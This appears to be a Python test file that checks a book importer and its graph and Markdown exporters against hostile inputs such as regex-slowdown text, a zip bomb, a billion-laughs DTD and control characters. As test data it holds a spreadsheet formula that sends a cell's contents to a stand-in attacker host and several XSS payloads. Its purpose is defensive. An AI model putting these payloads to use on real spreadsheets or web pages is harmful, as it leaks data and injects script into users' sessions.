"""One test per bug the hostile corpus found in the importer and the exports (see tests/fixtures/hostile): quadratic
work on adversarial text, a zip bomb made of small files, a billion-laughs package refused, mojibake and control
characters from the HTML fallback, formulas and invalid XML characters in the graph exports, raw HTML in the Markdown
export. The time bounds are loose (the fixed code is 10-1000x faster than the bound on these inputs)."""
from __future__ import annotations

import csv
import io
import sys
import time
import zipfile
from pathlib import Path

import networkx as nx
import pytest
from lxml import etree

from core.ingest import IngestError, chunk_text, read_book
from core.ingest.markdown import _inline, _strip_comments, _strip_raw_elements
from core.kg.export import csv_cell, export_graph, xml_text
from core.kg.graph import GraphData, graph_as_of
from core.kg.types import EntityName, KgEntity, StoredTriple
from core.write.export import ExportChapter, to_markdown

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "fixtures" / "hostile"))
import make_corpus as corpus  # noqa: E402

STORY = "Mary Smith met Tom Baker in London, and they talked about the harbour for a long while. "


def _timed(fn, *args):  # noqa: ANN001, ANN002, ANN202
    """The result and the CPU seconds this process spent on it: a busy machine (CI beside benchmarks on two cores)
    stretches wall time by 2-3x, and these limits tell linear from quadratic, not a slow host."""
    start = time.process_time()
    result = fn(*args)
    return result, time.process_time() - start


# ---- quadratic time on adversarial text --------------------------------------------------------------------------

def test_a_sentence_of_a_million_words_is_cut_in_linear_time() -> None:
    text = " ".join(["word"] * 1_000_000)  # one "sentence": no full stop anywhere (a verse file, one word a line)
    _, quarter = _timed(chunk_text, " ".join(["word"] * 250_000))
    chunks, seconds = _timed(chunk_text, text)
    # against a quarter of it, in the same run (a fixed bound fails on a busy machine): linear code takes about 4x
    # (1.04 s against 0.26 here), the quadratic one took 32x (39 s against 1.2)
    assert seconds < 8 * quarter + 0.5, f"{seconds:.1f} s for a million words, {quarter:.1f} s for a quarter"
    assert len(chunks) == 1_000_000 // 240 + 1 and all(len(c.split()) <= 240 for c in chunks)
    assert sum(len(c.split()) for c in chunks) == 1_000_000


@pytest.mark.parametrize("unit", [" _a", " *a", " **a", " ~~a", " [a", " [a](b", " ![a](", " <a", " `a"])
def test_unclosed_markdown_markup_on_a_long_line_is_linear(unit: str) -> None:
    line = unit * (300_000 // len(unit))  # about 300 KB of openers that never close
    result, seconds = _timed(_inline, line)
    assert seconds < 2, f"{unit!r}: {seconds:.1f} s (the lazy regexes needed minutes for 90 KB)"
    assert len(result) > len(line) // 3


def test_unclosed_comments_and_script_tags_are_linear() -> None:
    text = "<!-- a " * 60_000 + "<script> b " * 60_000 + "<style> c " * 60_000
    _, seconds = _timed(lambda: _strip_raw_elements(_strip_comments(text)))
    assert seconds < 2


def test_markdown_emphasis_links_and_code_are_still_unwrapped() -> None:
    cases = {"**bold** and *it* and _u_ and ~~s~~": "bold and it and u and s",
             "***both*** and __b__": "both and b",
             "a [link](http://x.org/wiki/A_(b)) and ![img](p.png) here": "a link and here",
             "[ref][1] and `code` and <b>tag</b>": "ref and code and tag",
             "snake_case_name and 2*3*4 stay": "snake_case_name and 2*3*4 stay",
             "**unclosed *but* this": "**unclosed but this"}
    for source, expected in cases.items():
        assert _inline(source) == expected, source


def test_markdown_drops_script_and_style_elements_with_their_content() -> None:
    data = ("# Book\n\n## Chapter 1\n\n<script>\nwindow.x = 1;\n\nalert('from-script')\n</script>\n\n"
            "<style>p { color: red }</style>\n\n" + STORY * 5 + "\n\n## Chapter 2\n\n" + STORY * 5).encode()
    text = "\n".join(c.text for c in read_book("b.md", data).chapters)
    assert "from-script" not in text and "color: red" not in text and "Mary Smith" in text


def test_leading_one_word_paragraphs_are_skipped_in_linear_time() -> None:
    data = b"Go\n\n" * 150_000 + (STORY * 3).encode()
    book, seconds = _timed(read_book, "b.txt", data)
    assert seconds < 3, f"{seconds:.1f} s (slicing the list one paragraph at a time was quadratic)"
    assert "Mary Smith" in book.chapters[0].text


def test_many_front_matter_headings_before_the_chapters_are_linear() -> None:
    # Each "Preface" before the first chapter looked for the next heading by listing every later one: quadratic.
    chapters = f"Chapter 1\n\n{STORY * 20}\n\nChapter 2\n\n{STORY * 20}"
    plain = "Mary Smith and Tom Baker spoke at some length of nothing at all.\n\n" + STORY * 2 + "\n\n"
    _, baseline = _timed(read_book, "b.txt", (plain * 20_000 + chapters).encode())  # a sentence where each heading is
    front = "Preface\n\n" + STORY * 2 + "\n\n"
    data = (front * 20_000 + chapters).encode()
    book, seconds = _timed(read_book, "b.txt", data)
    # against the document without those headings, in the same run (a fixed 5 s bound failed at 5.0 s in a CI run
    # beside other work): linear code takes 2.2x (2.5 s against 1.1 here), the quadratic one took 31x (39 s)
    assert seconds < 4 * baseline + 0.5, f"{seconds:.1f} s with 20,000 headings, {baseline:.1f} s without"
    assert [c.title for c in book.chapters][-2:] == ["Chapter 1", "Chapter 2"]


def test_the_parts_warning_counts_the_parts_that_were_made() -> None:
    verse = "\n".join(["A short line of verse"] * 5000)  # 25,000 words, no blank line: one paragraph...
    book = read_book("poem.txt", verse.encode())  # ...cut at line ends into parts of at most 5,000 words
    assert len(book.chapters) == 7 and f"cut into {len(book.chapters)} parts" in " ".join(book.warnings)
    assert all(len(ch.text.split()) <= 5000 for ch in book.chapters)
    assert "\n".join(ch.text for ch in book.chapters) == verse
    prose = "\n\n".join([STORY * 10] * 40)  # 6,800 words in paragraphs: cut into 3 parts
    book = read_book("prose.txt", prose.encode())
    assert len(book.chapters) == 3 and "cut into 3 parts" in " ".join(book.warnings)


def test_an_epub_document_with_many_headings_is_linear() -> None:
    # Measured against the same document with paragraphs where the headings are, read in the same run: an absolute
    # bound (8 s) failed at 8.3 s on a busy AMD EPYC where an idle one takes 5 s. Linear code reads the headings in
    # 1.3x the paragraphs' time; counting the words after each heading on a copy of the rest took 6x.
    def document(tag: str) -> bytes:
        body = "".join(f"<{tag}>Part {i}</{tag}><p>word word word.</p>" for i in range(60_000))
        return corpus.epub([("c1.xhtml", corpus.xhtml("C", body))])
    _, baseline = _timed(read_book, "b.epub", document("p"))
    _, seconds = _timed(read_book, "b.epub", document("h2"))
    assert seconds < 3 * baseline, (f"{seconds:.1f} s with headings, {baseline:.1f} s with paragraphs (the words "
                                    "after each heading were counted on a copy of the rest)")


# ---- EPUB ----------------------------------------------------------------------------------------------------------

def test_a_zip_bomb_of_small_chapters_is_refused() -> None:
    body = b"<p>word word word word.</p>" * (4_900_000 // 28)  # each chapter under the per-file check
    docs = [(f"c{i}.xhtml", b"<html><body><h1>Chapter %d</h1>" % i + body + b"</body></html>") for i in range(8)]
    with pytest.raises(IngestError, match="zip bomb"):
        read_book("b.epub", corpus.epub(docs))


def test_a_billion_laughs_package_still_imports_its_chapters() -> None:
    docs = corpus.chapter_docs(2, 1)
    data = corpus.epub(docs, title="Laughs &lol9;", opf_doctype=corpus.LOL.format(root="package"))
    book = read_book("b.epub", data)
    assert len(book.chapters) == 2 and book.title == "Laughs" and "lollol" not in book.chapters[0].text


def test_an_internal_dtd_subset_leaves_no_debris_in_the_text() -> None:
    doc = corpus.xhtml("C", "<h1>Chapter 1</h1><p>&lol9;</p>" + corpus.paragraphs_xhtml([STORY * 3]),
                       doctype=corpus.LOL.format(root="html"))
    book = read_book("b.epub", corpus.epub([("c1.xhtml", doc)] + corpus.chapter_docs(3, 2)[1:]))
    assert not book.chapters[0].text.startswith("]>") and "Mary Smith" in book.chapters[0].text


def test_a_chapter_that_is_not_well_formed_xml_is_read_as_utf8() -> None:
    def doc(n: int) -> bytes:  # no XML declaration, an unclosed <br>: lxml's HTML parser used to assume Latin-1
        return (f'<html xmlns="http://www.w3.org/1999/xhtml"><body><h1>Chapter {n}</h1><p>'
                + "Zoë drank a café crème, “naïvely”. " * 10 + "Line<br>break.</p></body></html>").encode()
    book = read_book("b.epub", corpus.epub([("c1.xhtml", doc(1)), ("c2.xhtml", doc(2))]))
    assert "Zoë drank a café crème, “naïvely”." in book.chapters[0].text and "Ã" not in book.chapters[0].text


def test_control_characters_never_reach_an_epub_chapter_or_a_text_book() -> None:
    bad = "[\x01][\x07][\x1b][&#1;][&#x7;][&#xFFFF;][\ufffe]"
    body = f"<h1>Chapter 1</h1><p>{STORY * 3}Line<br>break {bad} end.</p>"  # <br>: not XML, the HTML fallback
    book = read_book("b.epub", corpus.epub([("c1.xhtml", corpus.xhtml("C", body))] + corpus.chapter_docs(2, 3)[1:]))
    text = book.chapters[0].text
    assert "[][][][][][][] end." in text
    plain = read_book("b.txt", (STORY * 5 + "Mr. \ufffe\uffff Nonchar.").encode()).chapters[0].text
    assert "\ufffe" not in plain and "\uffff" not in plain and "Mr.  Nonchar." in plain


# ---- graph exports -------------------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
BAD_XML = "Mr. \x01\x1b\ufffe\uffff Bad"


def _graph() -> nx.MultiDiGraph:
    entities = [KgEntity(1, FORMULA, "character", [EntityName(FORMULA, 1, 2)], 1, 2),
                KgEntity(2, BAD_XML, "character", [EntityName(BAD_XML, 1, 2), EntityName("@Bad", 1, 1)], 1, 3),
                KgEntity(3, "Mr. Bad", "character", [EntityName("Mr. Bad", 1, 1)], 1, 1)]
    edges = [StoredTriple(1, 1, 10, 0, FORMULA, "met", BAD_XML, f"{FORMULA} met {BAD_XML}.", FORMULA, BAD_XML),
             StoredTriple(2, 1, 10, 1, "Mr. Bad", "+called", BAD_XML, "-Mr. Bad called.", "Mr. Bad", BAD_XML)]
    counts = {FORMULA: {1: 2}, BAD_XML: {1: 2}, "@Bad": {1: 1}, "Mr. Bad": {1: 1}}
    return graph_as_of(GraphData(entities, edges, counts, 1), None)


def test_csv_cells_that_spreadsheets_would_run_are_marked_as_text() -> None:
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("+1") == "'+1" and csv_cell("-x") == "'-x"
    assert csv_cell("@SUM(A1)") == "'@SUM(A1)" and csv_cell("\t=1") == "'\t=1" and csv_cell("Mary") == "Mary"
    assert csv_cell(-3) == -3 and csv_cell(7) == 7
    with zipfile.ZipFile(io.BytesIO(export_graph(_graph(), "csv"))) as archive:
        cells = [cell for name in archive.namelist()
                 for row in csv.reader(io.StringIO(archive.read(name).decode())) for cell in row]
    assert not [c for c in cells if c[:1] in "=+-@\t\r"]
    assert f"'{FORMULA}" in cells and "'+called" in cells and "'-Mr. Bad called." in cells


def test_graphml_and_gexf_parse_whatever_characters_a_name_holds() -> None:
    assert xml_text(BAD_XML) == "Mr.  Bad" and xml_text("\ud800x\U0001f600") == "x\U0001f600" and xml_text(3) == 3
    for fmt in ("graphml", "gexf"):
        root = etree.fromstring(export_graph(_graph(), fmt))
        assert root is not None
    read = nx.read_graphml(io.BytesIO(export_graph(_graph(), "graphml")))
    assert read.number_of_nodes() == 3 and read.number_of_edges() == 2
    labels = {d["label"] for _, d in read.nodes(data=True)}
    assert labels == {FORMULA, "Mr.  Bad", "Mr. Bad"}  # the JSON export keeps names as they are


def test_node_ids_that_differ_only_in_dropped_characters_stay_distinct() -> None:
    graph = nx.MultiDiGraph()
    for node in ("a\x01", "a"):
        graph.add_node(node, label=node, type="character", aliases=[node], first_chapter=1, mentions=1)
    graph.add_edge("a\x01", "a", predicate="met", chapter=1, evidence="a met a.")
    read = nx.read_graphml(io.BytesIO(export_graph(graph, "graphml")))
    assert read.number_of_nodes() == 2 and read.number_of_edges() == 1


# ---- Markdown export -----------------------------------------------------------------------------------------------

def test_markdown_export_keeps_html_and_links_in_the_text_inert() -> None:
    text = ('He wrote <img src=x onerror=alert(1)> and <script>alert(2)</script> and [click](javascript:alert(3)) '
            "and a back\\slash.\n\n- a list line")
    md = to_markdown("Story", [ExportChapter(1, "One", text)])
    body = md.split("## Chapter 1: One", 1)[1]
    assert "\\<img src=x onerror=alert(1)>" in body and "\\<script>alert(2)\\</script>" in body
    assert "\\[click\\](javascript:alert(3))" in body and "back\\\\slash" in body and "\n\\- a list line" in body


@pytest.mark.parametrize("depth", [300, 20_000])
def test_text_nested_past_the_parser_depth_limit_is_recovered_not_dropped(depth: int) -> None:
    from core.ingest.xhtml import parse_document
    content = ('<?xml version="1.0" encoding="utf-8"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>T'
               '</title></head><body class="c"><h1>Chapter 1</h1>' + "<div>" * depth + "<p>Deep words &amp; more."
               "</p><script>alert(1)</script>" + "</div>" * depth + "<p>After.</p></body></html>").encode()
    assert [b.text for b in parse_document(content).blocks] == ["Chapter 1", "Deep words & more.", "After."]
